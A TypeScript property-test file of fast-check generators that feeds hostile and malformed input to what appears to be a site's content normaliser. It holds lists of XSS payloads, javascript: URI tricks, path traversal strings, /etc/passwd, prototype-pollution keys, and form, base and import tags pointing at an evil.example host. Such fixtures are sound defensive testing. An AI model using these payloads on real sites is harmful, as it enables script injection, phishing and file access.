// Generators of bad, hostile and malformed input for the property tests: file names, front
// matter (valid YAML of every shape, and YAML that is not), Markdown full of what pages
// smuggle in, and the bytes of all of it in the encodings captures arrive in.
import fc from 'fast-check';
import YAML from 'yaml';

/** What a scraped page or a hostile front matter tries to get into the site. */
export const HOSTILE = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  'javascript:alert(1)',
  ' JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'https://example.org/"><script>alert(1)</script>',
  "https://example.org/x?q=' onmouseover='alert(1)",
  '<svg onload=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example/"><input name="q"><button>go</button></form>',
  '<style>body{display:none}</style>',
  '<div style="background:url(javascript:alert(1))">styled</div>',
  '<a href="jav&#x09;ascript:alert(1)">tab</a>',
  '<a href="&#106;avascript:alert(1)">entity</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="import" href="//evil.example/x">',
  '<template><script>alert(1)</script></template>',
  '<!-- --><script>alert(1)</script><!-- -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  ']]></title><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '{{{body}}}',
  '\u2028\u2029',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '../../../../tmp/escaped',
  '..\\..\\escaped',
  '/etc/passwd',
  '%2e%2e%2fescaped',
  '__proto__',
  'constructor',
];

/** Markdown constructs, hostile and ordinary. */
const MARKDOWN = [
  '# Heading', '## Sub-heading', '> a quote', '- item\n- item', '1. one\n2. two', '---', '***',
  '```html\n<script>alert(1)</script>\n```', '    indented <script>code</script>',
  '| a | b |\n|---|---|\n| <script>alert(1)</script> | x |',
  '[click](javascript:alert(1))', '[ok](https://example.org "title")', '<javascript:alert(1)>', '<https://example.org>',
  '![img](javascript:alert(1))', '![img](data:image/png;base64,AAAA)',
  '[ref]: javascript:alert(1)\n\nA [link][ref].',
  '<div>\n*Markdown* in a block\n</div>', '<p>A <b>paragraph</b> of HTML</p>', '<details><summary>s</summary>d</details>',
  '*emphasis* and **strong** and `code`', 'Quelle: https://www.example.de/artikel', 'Von Anna Schmidt', '12. Juli 2024',
];

/** Fields the normaliser reads, and a few keys that are dangerous in JavaScript. */
const KEYS = ['title', 'date', 'lang', 'language', 'source', 'url', 'author', 'people', 'topics', 'tags', 'agencies', 'slug', 'summary', 'description', 'draft', 'story', '__proto__', 'constructor', 'toString', 'edition'];

/** YAML that does not parse, or parses into something odd. */
const BAD_YAML = [
  'title: [unclosed', 'a: b: c', ': :', '- a\n- b', 'x: &a [*a]', 'title: !!binary aGVsbG8=', 'f: !!js/function "function(){}"',
  '\t- tab', 'summary: "unterminated', 'title: "x" y', '{', '? complex key\n: value', '%YAML 2.0', 'title: x\ntitle: y',
  'date: 2024-13-45', 'people: 42', 'lang: xx-invalid', 'draft: yes', 'slug: ../../escape', '...', '---',
];

/** Short text in any script, hostile strings, and words. */
export const text = fc.oneof(
  { weight: 3, arbitrary: fc.string({ unit: 'grapheme', maxLength: 60 }) },
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE) },
  { weight: 2, arbitrary: fc.lorem({ maxCount: 12 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
);

/** Any YAML value a front-matter field could hold. */
const yamlValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: text },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.double() },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.tuple(fc.date({ noInvalidDate: true }), fc.constantFrom(4, 7, 10)).map(([d, n]) => d.toISOString().slice(0, n)) },
  { weight: 2, arbitrary: fc.array(text, { maxLength: 4 }) },
  { weight: 1, arbitrary: fc.dictionary(fc.constantFrom('name', 'url', 'x', '__proto__'), text, { maxKeys: 3 }) },
  { weight: 1, arbitrary: fc.array(fc.dictionary(fc.string({ maxLength: 5 }), text, { maxKeys: 2 }), { maxLength: 2 }) },
);

/** Front matter: valid YAML of any shape, or lines that are not YAML. */
const frontMatter = fc.oneof(
  { weight: 3, arbitrary: fc.dictionary(fc.oneof(fc.constantFrom(...KEYS), fc.string({ maxLength: 12 })), yamlValue, { maxKeys: 8 }).map((o) => YAML.stringify(o)) },
  { weight: 2, arbitrary: fc.array(fc.oneof(fc.constantFrom(...BAD_YAML), text), { maxLength: 6 }).map((lines) => lines.join('\n')) },
);

/** A Markdown body of hostile and ordinary blocks. */
const body = fc.tuple(fc.array(fc.oneof(
  { weight: 3, arbitrary: text },
  { weight: 3, arbitrary: fc.constantFrom(...MARKDOWN) },
  { weight: 2, arbitrary: fc.lorem({ maxCount: 60, mode: 'sentences' }) },
), { maxLength: 8 }), fc.constantFrom('\n\n', '\n', ' ')).map(([blocks, separator]) => blocks.join(separator));

/** A document's text: front matter and body, a body alone, or a degenerate file. */
const documentText = fc.oneof(
  { weight: 4, arbitrary: fc.tuple(frontMatter, body).map(([fm, b]) => `---\n${fm}\n---\n${b}`) },
  { weight: 2, arbitrary: body },
  { weight: 1, arbitrary: fc.constantFrom('', '---\n', '---\ntitle: never closed\n\nBody.', '---\n---\n', '\uFEFF', ' \n\t\n', '---\ntitle: Only a title\n---\n') },
);

/** Text to bytes the way captures arrive: UTF-8 (with a BOM, CRLF), Latin-1, UTF-16, cut short. */
function encode(textValue: string, how: string, cut: number): Uint8Array {
  switch (how) {
    case 'bom': return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(textValue)]);
    case 'crlf': return Buffer.from(textValue.replace(/\n/g, '\r\n'));
    case 'latin1': return Buffer.from(textValue, 'latin1');
    case 'utf16': return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(textValue, 'utf16le')]);
    case 'cut': { const b = Buffer.from(textValue); return b.subarray(0, cut % (b.length + 1)); }
    default: return Buffer.from(textValue);
  }
}

/** A file's bytes: an encoded document, or random bytes. */
export const fileBytes = fc.oneof(
  { weight: 6, arbitrary: fc.tuple(documentText, fc.constantFrom('utf8', 'utf8', 'utf8', 'bom', 'crlf', 'latin1', 'utf16', 'cut'), fc.nat()).map(([t, how, cut]) => encode(t, how, cut)) },
  { weight: 1, arbitrary: fc.uint8Array({ maxLength: 2000 }) },
);

/** One path segment that Linux accepts as a file name (no "/", no NUL, not "." or ".."), not hidden. */
const segment = fc.oneof(
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 24 }),
  fc.constantFrom('<script>alert(1)<', '..%2f..%2f', '....', ' ', 'CON', 'a\\..\\b', 'index.html', 'über uns', 'مقال', '%00', 'line\nbreak', 'sep\u2028arator', '\u202eevil'),
).filter((s) => !s.includes('/') && !s.includes('\0') && !/^[._]/.test(s) && Buffer.byteLength(s) <= 120 && Buffer.from(s).toString() === s);

/** A relative file path in the content folder, one or two folders deep, with an article's extension or another. */
export const filePath = fc.tuple(
  fc.array(segment, { minLength: 0, maxLength: 2 }),
  segment,
  fc.constantFrom('.md', '.md', '.md', '.txt', '.txt', '.markdown', '.MD', '.md.meta.yml', '.yml', ''),
).map(([dirs, name, ext]) => [...dirs, name + ext].join('/'));

/** A small archive: distinct paths (no path a folder of another), each with its bytes. */
export const archive = fc.uniqueArray(fc.tuple(filePath, fileBytes), { minLength: 1, maxLength: 6, selector: ([p]) => p.normalize('NFC').toLowerCase() })
  .filter((files) => files.every(([a]) => files.every(([b]) => a === b || !b.startsWith(`${a}/`))));
